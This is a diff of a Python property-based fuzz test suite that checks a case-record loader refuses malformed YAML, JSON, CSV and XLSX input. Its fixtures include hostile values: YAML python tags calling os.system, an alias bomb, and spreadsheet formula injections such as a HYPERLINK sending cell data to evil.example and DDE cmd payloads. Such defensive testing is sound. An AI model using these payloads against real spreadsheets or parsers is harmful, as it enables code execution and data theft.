@@ -29,8 +29,8 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook
 
-from graph.backend import BackendError
 from graph.embedded import EmbeddedBackend
+from graph.export import to_networkx
 from graph.load import counts, delete_case, load_case
 from graph.schema import Prop, load_schema
 from loaders.records import InputError, Problem, parse_structured
@@ -45,8 +45,12 @@ TRIED: Counter[str] = Counter()
 
 
 def _settings(n: int):
-    return settings(max_examples=n, deadline=None, database=None,
-                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+    return settings(
+        max_examples=n,
+        deadline=None,
+        database=None,
+        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+    )
 
 
 def _plain(value: object) -> object:
@@ -74,8 +78,23 @@ REQUIRED_COLUMNS = ["date", "agency", "what happened", "source", "child"]
 CONTROL = [chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, *range(0x80, 0xA0)]]
 CONTROL_OR_SURROGATE = CONTROL + ["\ud800", "\udfff"]
 NOT_TEXT = [["x"], {"a": 1}, True, False, [], {}]
-BAD_DATES = ["soonish", "2015-02-30", "2015-13", "May 2016 – Jan 2015", "2016 – 2014", "late 2015 – early 2015",
-             "0000-01-01", "31 Febtember 2014", "2015-1-1-1", "--", "– –", True, 5.5, ["2015"], {"from": "2015"}]
+BAD_DATES = [
+    "soonish",
+    "2015-02-30",
+    "2015-13",
+    "May 2016 – Jan 2015",
+    "2016 – 2014",
+    "late 2015 – early 2015",
+    "0000-01-01",
+    "31 Febtember 2014",
+    "2015-1-1-1",
+    "--",
+    "– –",
+    True,
+    5.5,
+    ["2015"],
+    {"from": "2015"},
+]
 WRONG = {
     "string": NOT_TEXT,
     "text": NOT_TEXT,
@@ -121,8 +140,24 @@ Target = tuple[str, int, str] | None  # (section, index of the record, field) th
 def record_mutation(draw) -> tuple[list[dict], list[dict], Target, str]:
     nodes, edges = copy.deepcopy(BASE_NODES), copy.deepcopy(BASE_EDGES)
     sections = {"nodes": nodes, "edges": edges}
-    kind = draw(st.sampled_from(["wrong_type", "missing", "duplicate", "same_id", "dangling", "huge", "control",
-                                 "unknown_field", "bad_id", "bad_source", "bad_type", "bad_doc"]))
+    kind = draw(
+        st.sampled_from(
+            [
+                "wrong_type",
+                "missing",
+                "duplicate",
+                "same_id",
+                "dangling",
+                "huge",
+                "control",
+                "unknown_field",
+                "bad_id",
+                "bad_source",
+                "bad_type",
+                "bad_doc",
+            ]
+        )
+    )
     section = draw(st.sampled_from(["nodes", "edges"]))
     records = sections[section]
     i = draw(st.integers(0, len(records) - 1))
@@ -148,7 +183,9 @@ def record_mutation(draw) -> tuple[list[dict], list[dict], Target, str]:
         nodes[b]["id"] = nodes[a]["id"]
         return nodes, edges, ("nodes", b, "id"), kind
     if kind == "dangling":
-        ghost = draw(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.:-]{0,12}", fullmatch=True).filter(lambda s: s not in BASE_IDS))
+        ghost = draw(
+            st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.:-]{0,12}", fullmatch=True).filter(lambda s: s not in BASE_IDS)
+        )
         if section == "edges":
             field = draw(st.sampled_from(["from", "to"]))
         else:  # a property naming another record: the child's responsible area
@@ -170,8 +207,11 @@ def record_mutation(draw) -> tuple[list[dict], list[dict], Target, str]:
         return nodes, edges, (section, i, field), kind
     if kind == "unknown_field":
         declared = set(_type_of(section, rec).props) | {"type", "id", "source", "doc", "from", "to"}
-        key = draw(st.one_of(st.from_regex(r"[a-z][a-z_0-9]{0,15}", fullmatch=True), st.integers(0, 99))
-                   .filter(lambda k: k not in declared))
+        key = draw(
+            st.one_of(st.from_regex(r"[a-z][a-z_0-9]{0,15}", fullmatch=True), st.integers(0, 99)).filter(
+                lambda k: k not in declared
+            )
+        )
         rec[key] = draw(st.sampled_from(["x", 1, None, ["y"]]))
         return nodes, edges, (section, i, str(key)), kind
     if kind == "bad_id":
@@ -188,8 +228,7 @@ def record_mutation(draw) -> tuple[list[dict], list[dict], Target, str]:
 
 
 def _yaml_record(rec: dict) -> str:
-    return yaml.safe_dump(rec, default_flow_style=True, width=float("inf"), allow_unicode=True,
-                          sort_keys=False).strip()
+    return yaml.safe_dump(rec, default_flow_style=True, width=float("inf"), allow_unicode=True, sort_keys=False).strip()
 
 
 def to_yaml(nodes: list, edges: list) -> tuple[str, dict[tuple[str, int], int]]:
@@ -224,16 +263,46 @@ def document_mutation(draw) -> tuple[str, bytes | str, int | None, str, str]:
     fmt = draw(st.sampled_from(["yaml", "json"]))
     text, where = SERIALISERS[fmt](BASE_NODES, BASE_EDGES)
     lines = text.split("\n")
-    kind = draw(st.sampled_from(["invalid_utf8", "empty", "truncated", "utf16", "raw_control", "deep", "alias_bomb",
-                                 "undefined_alias", "python_tag", "duplicate_key", "top_level_list", "scalar_item",
-                                 "unknown_top_key", "section_not_list", "unclosed"]))
+    kind = draw(
+        st.sampled_from(
+            [
+                "invalid_utf8",
+                "empty",
+                "truncated",
+                "utf16",
+                "raw_control",
+                "deep",
+                "alias_bomb",
+                "undefined_alias",
+                "python_tag",
+                "duplicate_key",
+                "top_level_list",
+                "scalar_item",
+                "unknown_top_key",
+                "section_not_list",
+                "unclosed",
+            ]
+        )
+    )
     if kind == "invalid_utf8":
         raw = text.encode("utf-8")
         at = draw(st.integers(0, len(raw)))
         while at < len(raw) and (raw[at] & 0xC0) == 0x80:  # insert between characters, not inside one
             at += 1
-        bad = draw(st.sampled_from([b"\xff", b"\xfe\xff", b"\xc3\x28", b"\x80", b"\xc0\xaf", b"\xed\xa0\x80",
-                                    b"\xf8\x88\x80\x80\x80", b"\xe2\x82"]))
+        bad = draw(
+            st.sampled_from(
+                [
+                    b"\xff",
+                    b"\xfe\xff",
+                    b"\xc3\x28",
+                    b"\x80",
+                    b"\xc0\xaf",
+                    b"\xed\xa0\x80",
+                    b"\xf8\x88\x80\x80\x80",
+                    b"\xe2\x82",
+                ]
+            )
+        )
         return fmt, raw[:at] + bad + raw[at:], raw[:at].count(b"\n") + 1, "(encoding)", kind
     if kind == "empty":
         return fmt, draw(st.sampled_from(["", " ", "\n\n", "\t \n", "\ufeff"])), None, "(file)", kind
@@ -277,13 +346,22 @@ def document_mutation(draw) -> tuple[str, bytes | str, int | None, str, str]:
         bomb = ["bomb:", "  a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
         bomb += [f"  a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 10)}]" for k in range(1, 10)]
         lines[line - 1] = lines[line - 1].replace("{", "{notes: *a9, ", 1)
-        return fmt, "\n".join(bomb + lines), line + len(bomb), "notes", kind
+        # refused as it is parsed, where the aliases pass a million values (a5, line 7)
+        return fmt, "\n".join(bomb + lines), 7, "(syntax)", kind
     if kind == "undefined_alias":
         lines[line - 1] = lines[line - 1].replace("{", "{notes: *nowhere, ", 1)
         return fmt, "\n".join(lines), line, "(syntax)", kind
     if kind == "python_tag":
-        tag = draw(st.sampled_from(["!!python/object/apply:os.system ['true']", "!!python/name:os.system ''",
-                                    "!!python/object:collections.OrderedDict {}", "!<tag:evil> x"]))
+        tag = draw(
+            st.sampled_from(
+                [
+                    "!!python/object/apply:os.system ['true']",
+                    "!!python/name:os.system ''",
+                    "!!python/object:collections.OrderedDict {}",
+                    "!<tag:evil> x",
+                ]
+            )
+        )
         lines[line - 1] = lines[line - 1].replace("{", "{notes: " + tag + ", ", 1)
         return fmt, "\n".join(lines), line, "(syntax)", kind
     if kind == "duplicate_key":
@@ -330,18 +408,46 @@ def header_mutation(draw) -> tuple[str, str, str]:
 # ---------------------------------------------------------------------------------------------
 # Spreadsheets (CSV, XLSX): a mutation returns the rows and the (row, field) it broke.
 
-FORMULAS = st.builds(lambda p, body: p + body, st.sampled_from(["=", "+", "-", "@"]),
-                     st.sampled_from(['HYPERLINK("http://evil.example/?"&A1,"click")', "cmd|' /C calc'!A0",
-                                      "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "A1", "IMPORTXML(CONCAT(\"http://x/\",B2),\"//a\")",
-                                      "2+3", "DDE(\"cmd\";\"/C calc\";\"x\")", " 1"]))
+FORMULAS = st.builds(
+    lambda p, body: p + body,
+    st.sampled_from(["=", "+", "-", "@"]),
+    st.sampled_from(
+        [
+            'HYPERLINK("http://evil.example/?"&A1,"click")',
+            "cmd|' /C calc'!A0",
+            "SUM(1+1)*cmd|' /C calc'!A0",
+            "1+1",
+            "A1",
+            'IMPORTXML(CONCAT("http://x/",B2),"//a")',
+            "2+3",
+            'DDE("cmd";"/C calc";"x")',
+            " 1",
+        ]
+    ),
+)
 
 
 @st.composite
 def sheet_mutation(draw, fmt: str) -> tuple[list[list[object]], int | None, str, str]:
     rows: list[list[object]] = [list(r) for r in BASE_ROWS]
-    kind = draw(st.sampled_from(["drop_column", "rename_column", "empty_cell", "formula", "bad_date", "control",
-                                 "huge", "short_row", "duplicate_row", "header_only", "blank_rows_then_bad"]
-                                + (["wrong_type", "formula_cell"] if fmt == "xlsx" else ["huge_csv_field"])))
+    kind = draw(
+        st.sampled_from(
+            [
+                "drop_column",
+                "rename_column",
+                "empty_cell",
+                "formula",
+                "bad_date",
+                "control",
+                "huge",
+                "short_row",
+                "duplicate_row",
+                "header_only",
+                "blank_rows_then_bad",
+            ]
+            + (["wrong_type", "formula_cell"] if fmt == "xlsx" else ["huge_csv_field"])
+        )
+    )
     r = draw(st.integers(1, len(rows) - 1))
     col = draw(st.sampled_from(REQUIRED_COLUMNS))
     c = HEADER.index(col)
@@ -361,8 +467,10 @@ def sheet_mutation(draw, fmt: str) -> tuple[list[list[object]], int | None, str,
         return rows, r + 1, HEADER[c], kind
     if kind == "formula_cell":  # a real formula cell, not text that looks like one
         c = draw(st.integers(0, len(HEADER) - 1))
-        rows[r][c] = ("__formula__", "=" + draw(st.sampled_from(['HYPERLINK("http://evil.example","x")', "1+1",
-                                                                  'DATE(2015,1,1)', "A1"])))
+        rows[r][c] = (
+            "__formula__",
+            "=" + draw(st.sampled_from(['HYPERLINK("http://evil.example","x")', "1+1", "DATE(2015,1,1)", "A1"])),
+        )
         return rows, r + 1, HEADER[c], kind
     if kind == "bad_date":
         rows[r][0] = draw(st.sampled_from([d for d in BAD_DATES if isinstance(d, str)]))
@@ -432,8 +540,13 @@ def write_xlsx(path: Path, rows: list[list[object]]) -> None:
 
 def well_located(problem: Problem) -> bool:
     located = problem.where.line is not None or problem.where.row is not None
-    return (bool(problem.where.file) and isinstance(problem.field, str) and bool(problem.field)
-            and (located or problem.field in WHOLE_FILE_FIELDS) and bool(problem.expected))
+    return (
+        bool(problem.where.file)
+        and isinstance(problem.field, str)
+        and bool(problem.field)
+        and (located or problem.field in WHOLE_FILE_FIELDS)
+        and bool(problem.expected)
+    )
 
 
 def refuse(store, case: Path, bad_file: str, line: int | None, field: str | tuple[str, ...], kind: str) -> None:
@@ -446,9 +559,16 @@ def refuse(store, case: Path, bad_file: str, line: int | None, field: str | tupl
     bad = [str(p) for p in problems if not well_located(p)]
     assert not bad, f"{kind}: problems without file, line/row or field: {bad}"
     fields = field if isinstance(field, tuple) else (field,)
-    hit = [p for p in problems if Path(p.where.file).name == bad_file and p.field in fields
-           and (line is None or line in (p.where.line, p.where.row))]
-    assert hit, f"{kind}: expected a problem at {bad_file} line/row {line} field {field!r}; got {[str(p) for p in problems]}"
+    hit = [
+        p
+        for p in problems
+        if Path(p.where.file).name == bad_file
+        and p.field in fields
+        and (line is None or line in (p.where.line, p.where.row))
+    ]
+    assert hit, (
+        f"{kind}: expected a problem at {bad_file} line/row {line} field {field!r}; got {[str(p) for p in problems]}"
+    )
     assert len(str(info.value)) < 2_000 * len(problems), f"{kind}: a message too long to read"
     assert counts(store) == before, f"{kind}: the store changed"
     TRIED[kind] += 1
@@ -479,8 +599,9 @@ def _rezip(workbook: bytes, member: str, change: Callable[[bytes], bytes]) -> by
     return out.getvalue()
 
 
-def _case_dir(tmp: str, records: str | bytes | None = None, name: str = "records.yaml",
-              header: str = CASE_HEADER) -> Path:
+def _case_dir(
+    tmp: str, records: str | bytes | None = None, name: str = "records.yaml", header: str = CASE_HEADER
+) -> Path:
     folder = Path(tmp)
     (folder / "case.yaml").write_text(header, encoding="utf-8")
     if records is not None:
@@ -509,28 +630,43 @@ _REC = "nodes:\n  - {type: Child, id: C, name: C, source: '¶1'}\n"
 REGRESSIONS = {
     "a list as a type (TypeError)": ("nodes:\n  - {type: [Child], id: C, name: C, source: '¶1'}\n", 2, "type"),
     "nesting deeper than the parser recurses (RecursionError)":
-        # Whether the parser's recursion limit is reached depends on the interpreter's stack; either
-        # way the nesting is refused with its line.
-        ("nodes:\n  - {type: Child, id: C, name: " + "[" * 600 + "]" * 600 + ", source: '¶1'}\n", 2,
-         ("(syntax)", "name")),
-    "an alias bomb (would print 10**10 items)":
-        ("b:\n  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
-         + "".join(f"  a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 10)}]\n" for k in range(1, 10))
-         + "nodes:\n  - {type: Child, id: C, name: *a9, source: '¶1'}\n", 13, "name"),
+    # Whether the parser's recursion limit is reached depends on the interpreter's stack; either
+    # way the nesting is refused with its line.
+    ("nodes:\n  - {type: Child, id: C, name: " + "[" * 600 + "]" * 600 + ", source: '¶1'}\n", 2, ("(syntax)", "name")),
+    "an alias bomb (would print 10**10 items)": (
+        "b:\n  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
+        + "".join(f"  a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 10)}]\n" for k in range(1, 10))
+        + "nodes:\n  - {type: Child, id: C, name: *a9, source: '¶1'}\n",
+        7,  # refused as it is parsed, where the aliases pass a million values (a5)
+        "(syntax)",
+    ),
     "a raw NUL (no line)": ("nodes:\n  - {type: Child, id: C, name: C\x00, source: '¶1'}\n", 2, "(syntax)"),
-    "a scalar among the records (no line)": ("nodes:\n  - 5\n  - {type: Child, id: C, name: C, source: '¶1'}\n",
-                                            2, "nodes"),
-    "an unpaired surrogate (failed only in the store)":
-        ('nodes:\n  - {type: Child, id: C, name: "C\\ud800", source: "¶1"}\n', 2, "name"),
-    "a raw NEL in a quoted value (the YAML parser folded it to a space)":
-        ("nodes:\n  - {type: Child, id: C, name: C, source: '¶\x851'}\n  - {type: Area, id: A, name: A, source: '¶1'}\n",
-         2, "source"),
+    "a scalar among the records (no line)": (
+        "nodes:\n  - 5\n  - {type: Child, id: C, name: C, source: '¶1'}\n",
+        2,
+        "nodes",
+    ),
+    "an unpaired surrogate (failed only in the store)": (
+        'nodes:\n  - {type: Child, id: C, name: "C\\ud800", source: "¶1"}\n',
+        2,
+        "name",
+    ),
+    "a raw NEL in a quoted value (the YAML parser folded it to a space)": (
+        "nodes:\n  - {type: Child, id: C, name: C, source: '¶\x851'}\n  - {type: Area, id: A, name: A, source: '¶1'}\n",
+        2,
+        "source",
+    ),
     "a C1 control character": ('nodes:\n  - {type: Child, id: C, name: "C\\x85D", source: "¶1"}\n', 2, "name"),
-    "an id ending in a newline (passed the $ of the id pattern)":
-        ('nodes:\n  - {type: Child, id: "C\\n", name: C, source: "¶1"}\n', 2, "id"),
-    "a control character in a date's text (was stored)":
-        ('nodes:\n  - {type: Meeting, id: M, name: M, kind: lac_review, date: "Mar\\x1c2015", source: "¶1"}\n',
-         2, "date"),
+    "an id ending in a newline (passed the $ of the id pattern)": (
+        'nodes:\n  - {type: Child, id: "C\\n", name: C, source: "¶1"}\n',
+        2,
+        "id",
+    ),
+    "a control character in a date's text (was stored)": (
+        'nodes:\n  - {type: Meeting, id: M, name: M, kind: lac_review, date: "Mar\\x1c2015", source: "¶1"}\n',
+        2,
+        "date",
+    ),
 }
 
 
@@ -545,8 +681,14 @@ def test_a_timestamp_with_a_time_loads_as_its_day(store):
     """YAML's explicit !!timestamp passed validation as a datetime, which both stores then refused."""
     records = "nodes:\n  - {type: Meeting, id: M, name: M, kind: lac_review, date: !!timestamp 2015-01-02 10:00:00,"
     with tempfile.TemporaryDirectory() as tmp:
-        case = validate_path(_case_dir(tmp, records + " source: '¶1'}\n", header="case: ts\ndocument: ts-doc\n"
-                                       "nodes:\n  - {type: SourceDocument, id: ts-doc, name: D, source: x}\n"))
+        case = validate_path(
+            _case_dir(
+                tmp,
+                records + " source: '¶1'}\n",
+                header="case: ts\ndocument: ts-doc\n"
+                "nodes:\n  - {type: SourceDocument, id: ts-doc, name: D, source: x}\n",
+            )
+        )
         backend = EmbeddedBackend(":memory:")
         load_case(backend, case)
         assert backend.read("MATCH (m:Meeting) RETURN m.date_from AS d") == [{"d": date(2015, 1, 2)}]
@@ -555,8 +697,14 @@ def test_a_timestamp_with_a_time_loads_as_its_day(store):
 
 def test_case_id_problem_names_case_yaml(store):
     with tempfile.TemporaryDirectory() as tmp:
-        refuse(store, _case_dir(tmp, _REC, header=CASE_HEADER.replace("case: mini", "case: Bad Case")),
-               "case.yaml", 1, "case", "regression")
+        refuse(
+            store,
+            _case_dir(tmp, _REC, header=CASE_HEADER.replace("case: mini", "case: Bad Case")),
+            "case.yaml",
+            1,
+            "case",
+            "regression",
+        )
 
 
 def test_a_formula_with_commas_does_not_confuse_the_csv_reader(store):
@@ -641,8 +789,11 @@ def test_broken_xlsx_chronologies_are_refused(store, data):
 
 
 @_settings(60)
-@given(fmt=st.sampled_from(["csv", "xlsx"]), damage=st.sampled_from(["truncated", "invalid_utf8", "empty",
-                                                                      "bitflip"]), seed=st.integers(0, 2**32))
+@given(
+    fmt=st.sampled_from(["csv", "xlsx"]),
+    damage=st.sampled_from(["truncated", "invalid_utf8", "empty", "bitflip"]),
+    seed=st.integers(0, 2**32),
+)
 def test_damaged_spreadsheet_files_are_refused(store, fmt, damage, seed):
     rnd = random.Random(seed)
     with tempfile.TemporaryDirectory() as tmp:
@@ -662,7 +813,9 @@ def test_damaged_spreadsheet_files_are_refused(store, fmt, damage, seed):
             raw = raw[:at] + b"\xff\xfe" + raw[at:]
             row, field = None, "(encoding)"
         elif damage == "invalid_utf8":  # a workbook whose cell text (the sheet XML) is not UTF-8
-            raw = _rezip(raw, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<t>", b"<t>\xff\xfe", rnd.randint(1, 5)))
+            raw = _rezip(
+                raw, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<t>", b"<t>\xff\xfe", rnd.randint(1, 5))
+            )
         else:  # bytes flipped inside the compressed workbook (or its zip directory)
             if fmt == "csv":
                 raw, row, field = raw[:10] + b"\x00\x9c" + raw[10:], None, "(encoding)"
@@ -682,6 +835,14 @@ def test_damaged_spreadsheet_files_are_refused(store, fmt, damage, seed):
         refuse(store, path, path.name, row, field, f"{fmt}:{damage}")
 
 
+def snapshot_case(backend, case_id: str) -> list:
+    """Every node and edge of one case with every column, in a stable order."""
+    g = to_networkx(backend, case_id)
+    return sorted(str(sorted((k, str(v)) for k, v in d.items())) + str(n) for n, d in g.nodes(data=True)) + sorted(
+        f"{a}>{b}:{k}:{sorted((x, str(y)) for x, y in d.items())}" for a, b, k, d in g.edges(keys=True, data=True)
+    )
+
+
 def _renamed(case_id: str, prefix: str, shared: frozenset[str] = frozenset(), shared_prefix: str = ""):
     """The mini case as another case: ids prefixed, those in ``shared`` prefixed as in a case already loaded."""
     case = validate_path(MINI_CASE)
@@ -695,21 +856,20 @@ def _renamed(case_id: str, prefix: str, shared: frozenset[str] = frozenset(), sh
     return case
 
 
-
-
 MINI_IDS = sorted(BASE_IDS)
 
 
 @_settings(60)
-@given(shared=st.frozensets(st.sampled_from(MINI_IDS), min_size=1, max_size=3),
-       batch=st.sampled_from([1, 3, 5_000]))
-def test_case_clashing_with_the_store_loads_nothing(store, shared, batch):
-    """Valid files whose ids another case already holds: the store refuses mid-load and rolls back."""
-    before = counts(store)
-    with pytest.raises(BackendError):
-        load_case(store, _renamed("other", "o-", shared), batch_size=batch)
-    assert counts(store) == before
-    TRIED["store:clashing-ids"] += 1
+@given(shared=st.frozensets(st.sampled_from(MINI_IDS), min_size=1, max_size=3), batch=st.sampled_from([1, 3, 5_000]))
+def test_case_sharing_ids_with_the_store_leaves_it_alone(store, shared, batch):
+    """Another case may reuse the store's ids (a record is its case and id): it loads beside the
+    mini case, whose records stay exactly as they were, and deleting it deletes only its own."""
+    before = snapshot_case(store, "mini")
+    load_case(store, _renamed("other", "o-", shared), batch_size=batch)
+    assert snapshot_case(store, "mini") == before
+    delete_case(store, "other")
+    assert snapshot_case(store, "mini") == before and not any(counts(store, "other")["nodes"].values())
+    TRIED["store:shared-ids"] += 1
 
 
 @pytest.mark.neo4j
@@ -726,15 +886,17 @@ def test_broken_input_reaches_nothing_on_neo4j(neo4j_server, family, data):
 
 
 @pytest.mark.neo4j
-def test_case_clashing_on_neo4j_loads_nothing(neo4j_server):
-    """Neo4j refuses the second case's clashing ids part-way through the one transaction: no trace of it."""
+def test_case_sharing_ids_on_neo4j_leaves_the_other_case_alone(neo4j_server):
+    """The uniqueness constraint is on (case, id): a second case reusing ids loads, and neither its
+    load nor its deletion changes a record of the first."""
     load_case(neo4j_server, _renamed("fuzz-present", "fz-"))
     try:
-        before = counts(neo4j_server)
-        for shared in ("A1", "LP1", "mini-doc", "OFF"):  # the clash in an early, a middle and the last label written
-            with pytest.raises(BackendError, match="ConstraintValidationFailed"):
-                load_case(neo4j_server, _renamed("fuzz-other", "fo-", frozenset({shared}), "fz-"), batch_size=2)
-            assert counts(neo4j_server) == before
-            TRIED["neo4j:clashing-ids"] += 1
+        before = snapshot_case(neo4j_server, "fuzz-present")
+        for shared in ("A1", "LP1", "mini-doc", "OFF"):  # an early, a middle and the last label written
+            load_case(neo4j_server, _renamed("fuzz-other", "fo-", frozenset({shared}), "fz-"), batch_size=2)
+            assert snapshot_case(neo4j_server, "fuzz-present") == before
+            delete_case(neo4j_server, "fuzz-other")
+            assert snapshot_case(neo4j_server, "fuzz-present") == before
+            TRIED["neo4j:shared-ids"] += 1
     finally:
         delete_case(neo4j_server, "fuzz-present")
